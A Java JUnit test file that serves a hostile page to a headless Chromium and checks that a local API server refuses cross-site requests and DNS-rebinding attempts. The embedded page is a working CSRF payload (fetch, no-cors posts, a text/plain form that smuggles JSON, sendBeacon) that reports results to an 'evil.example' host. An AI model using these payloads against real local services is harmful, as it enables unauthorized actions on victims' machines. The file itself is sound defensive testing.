package dev.drover.bootstrap;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.drover.bootstrap.server.Server;
import dev.drover.http.testing.Api;
import dev.drover.http.testing.LogLines;
import dev.drover.persistence.postgres.DatabaseAddress;
import dev.drover.persistence.testing.RealPostgres;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/** Tests a real Chromium on a hostile page, beside a server that requires no key. */
@ExtendWith(RealPostgres.class)
@Timeout(180)
class BrowserAttackTest {
  private static final String FOLLOW =
      "{\"serials\": [\"P1\"], \"script_name\": \"follow\", \"script_config\": {\"target_users\":"
          + " [\"@ann\"]}}";

  /** What the hostile page tries. It reports each result to its own server. */
  private static final String PAGE =
      """
      <!doctype html><title>evil</title>
      <iframe name="sink"></iframe><iframe id="docs" src="API/docs"></iframe>
      <form id="form" method="post" enctype="text/plain" target="sink" action="API/task">
        <input name='{"serials":["P1"],"script_name":"follow","script_config":{"target_users":["@ann"]},"x":"' value='"}'>
      </form>
      <form id="pause" method="post" target="sink" action="API/queue/pause"></form>
      <script>
      const task = JSON.stringify({serials: ["P1"], script_name: "follow", script_config: {target_users: ["@ann"]}});
      const told = {};
      async function tries(name, path, options) {
        try {
          const answer = await fetch("API" + path, options);
          told[name] = answer.type === "opaque" ? "opaque" : "read " + await answer.text();
        } catch (refused) {
          told[name] = "refused";
        }
      }
      function loads(name, element, path) {
        return new Promise(done => {
          element.onload = () => { told[name] = "loaded"; done(); };
          element.onerror = () => { told[name] = "refused"; done(); };
          element.src = "API" + path;
          document.body.append(element);
        });
      }
      async function attack() {
        await tries("read", "/task", {});
        await tries("simple", "/task", {method: "POST", body: task});
        await tries("no-cors", "/task", {method: "POST", mode: "no-cors", body: task});
        await tries("no-cors without a body", "/queue/pause", {method: "POST", mode: "no-cors"});
        await tries("json", "/task", {method: "POST", headers: {"Content-Type": "application/json"}, body: task});
        await tries("delete", "/task/1", {method: "DELETE"});
        await loads("image", new Image(), "/task");
        await loads("script", document.createElement("script"), "/docs/swagger-ui-bundle.js");
        told["beacon"] = String(navigator.sendBeacon("API/queue/pause", ""));
        for (const id of ["form", "pause"]) {
          const sent = new Promise(done => document.getElementsByName("sink")[0].onload = done);
          document.getElementById(id).submit();
          await sent;
        }
        await fetch("/done", {method: "POST", body: JSON.stringify(told)});
      }
      attack();
      </script>
      """;

  @TempDir private Path home;
  private Server server;
  private Api api;

  @BeforeEach
  void start(DatabaseAddress address) {
    assumeTrue(
        chromium().isPresent(),
        "there is no chromium on this machine (Debian: apt-get install chromium)");
    server = Server.start(TestConfig.of(home, address));
    api = new Api(server.port());
  }

  @AfterEach
  void stop() {
    Optional.ofNullable(server).ifPresent(Server::close);
  }

  private static Optional<Path> chromium() {
    return Stream.of(System.getenv().getOrDefault("PATH", "").split(":"))
        .flatMap(folder -> Stream.of("chromium", "chromium-browser").map(Path.of(folder)::resolve))
        .filter(Files::isExecutable)
        .findFirst();
  }

  /** Hosts that an attacker owns and lets resolve to this machine. */
  private Process browse(Path profile, String... arguments) throws IOException {
    List<String> command = new ArrayList<>();
    command.add(chromium().orElseThrow().toString());
    command.addAll(
        List.of(
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--disable-background-networking",
            "--enable-logging=stderr",
            "--user-data-dir=" + profile,
            "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebind.example 127.0.0.1"));
    command.addAll(List.of(arguments));
    return new ProcessBuilder(command)
        .redirectError(profile.resolve("stderr.txt").toFile())
        .start();
  }

  private String dom(Path profile, String address) throws Exception {
    Process browser = browse(profile, "--virtual-time-budget=20000", "--dump-dom", address);
    try {
      String dom = new String(browser.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      browser.waitFor(60, TimeUnit.SECONDS);
      return dom;
    } finally {
      end(browser);
    }
  }

  private static void end(Process browser) {
    browser.descendants().forEach(ProcessHandle::destroyForcibly);
    browser.destroyForcibly();
  }

  @Test
  void a_hostile_page_can_neither_change_nor_read_anything(@TempDir Path profile) throws Exception {
    api.create(FOLLOW);
    CompletableFuture<String> told = new CompletableFuture<>();
    HttpServer evil =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    String page = PAGE.replace("API", "http://127.0.0.1:" + server.port() + "/api/v1");
    evil.createContext("/", exchange -> answer(exchange, page));
    evil.createContext(
        "/done",
        exchange -> {
          told.complete(
              new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
          answer(exchange, "");
        });
    evil.start();
    String origin = "http://evil.example:" + evil.getAddress().getPort();
    try (LogLines lines = LogLines.of("dev.drover.http")) {
      Process browser = browse(profile, "--remote-debugging-port=0", origin + "/");
      try {
        JsonNode outcomes = Api.JSON.readTree(told.get(90, TimeUnit.SECONDS));
        System.out.println("what the hostile page got: " + outcomes);
        assertThat(outcomes.size()).isEqualTo(9);
        for (String attempt : List.of("read", "simple", "json", "delete", "image", "script")) {
          assertThat(outcomes.path(attempt).asText()).as(attempt).isEqualTo("refused");
        }
        // The page can't see the results of these requests; the server can.
        for (String refused :
            List.of("POST /api/v1/task ", "POST /api/v1/queue/pause ", "OPTIONS /api/v1/task/1 ")) {
          lines.await(
              event ->
                  event.getFormattedMessage().startsWith("refused " + refused)
                      && event.getFormattedMessage().contains(origin));
        }
        lines.await(event -> event.getFormattedMessage().startsWith("refused GET /api/v1/docs "));
        assertThat(
                lines.messages().stream().filter(line -> line.startsWith("refused POST")).count())
            .as("posts that reached the server: %s", lines.messages())
            .isGreaterThanOrEqualTo(6);
      } finally {
        end(browser);
      }
    } finally {
      evil.stop(0);
    }
    assertThat(api.get("/task/stats").data().path("total").asInt()).isEqualTo(1);
    assertThat(api.get("/queue").data().path("paused").asBoolean()).isFalse();
  }

  @Test
  void a_name_that_is_bound_to_this_machine_anew_opens_nothing(@TempDir Path profile)
      throws Exception {
    try (LogLines lines = LogLines.of("dev.drover.http")) {
      // To the browser this is the same origin, so neither Origin nor Sec-Fetch-Site shows the
      // attack.
      String dom = dom(profile, "http://rebind.example:" + server.port() + "/api/v1/docs");

      assertThat(dom).contains("40302").doesNotContain("swagger");
      lines.await(event -> event.getFormattedMessage().contains("rebind.example:" + server.port()));
    }
  }

  @Test
  void the_page_of_the_documentation_works_under_its_policy(@TempDir Path profile)
      throws Exception {
    String dom = dom(profile, "http://127.0.0.1:" + server.port() + "/api/v1/docs");

    assertThat(dom)
        .contains("opblock-summary-path")
        .contains("/license/check")
        .contains("Authorize");
    assertThat(Files.readString(profile.resolve("stderr.txt")))
        .doesNotContain("Content Security Policy");
  }

  private static void answer(HttpExchange exchange, String html) throws IOException {
    byte[] bytes = html.getBytes(StandardCharsets.UTF_8);
    exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
    exchange.sendResponseHeaders(200, bytes.length == 0 ? -1 : bytes.length);
    exchange.getResponseBody().write(bytes);
    exchange.close();
  }
}
